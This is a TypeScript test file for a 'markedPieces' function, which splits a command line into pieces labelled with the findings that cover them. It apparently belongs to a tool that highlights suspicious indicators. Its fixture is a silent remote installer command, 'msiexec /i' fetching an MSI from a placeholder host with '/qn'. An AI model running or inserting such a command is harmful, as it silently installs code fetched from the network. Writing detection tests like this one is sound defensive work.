import { expect, it } from 'vitest';
import { markedPieces } from './marks.ts';

const LINE = 'msiexec /i http://get.example.net/v.msi /qn';
const at = (id: string, part: string) => ({ id, start: LINE.indexOf(part), end: LINE.indexOf(part) + part.length });
const shown = (marks: Parameters<typeof markedPieces>[1]) =>
  markedPieces(LINE, marks).map(({ text, ids }) => `${text}|${ids.join('+')}`);

it('gives back the text, letter for letter, whatever the marks are', () => {
  const marks = [at('a', 'msiexec /i'), at('b', '/i http'), { id: 'c', start: -5, end: 9_000 }];
  expect(
    markedPieces(LINE, marks)
      .map(({ text }) => text)
      .join(''),
  ).toBe(LINE);
  expect(shown([])).toEqual([`${LINE}|`]);
  expect(markedPieces('', [{ id: 'a', start: 0, end: 1 }])).toEqual([]);
});

it('says of each piece which findings stand on it', () => {
  expect(shown([at('silent', '/qn'), at('installer', 'msiexec')])).toEqual([
    'msiexec|installer',
    ' /i http://get.example.net/v.msi |',
    '/qn|silent',
  ]);
  expect(shown([at('all', LINE), at('quiet', '/qn')]).at(-1)).toBe('/qn|all+quiet');
});

it('never cuts an indicator: it would no longer be taken apart', () => {
  expect(shown([at('path', 'example.net/v.msi /q')])).toEqual([
    'msiexec /i |',
    'http://get.example.net/v.msi|path',
    ' /q|path',
    'n|',
  ]);
});
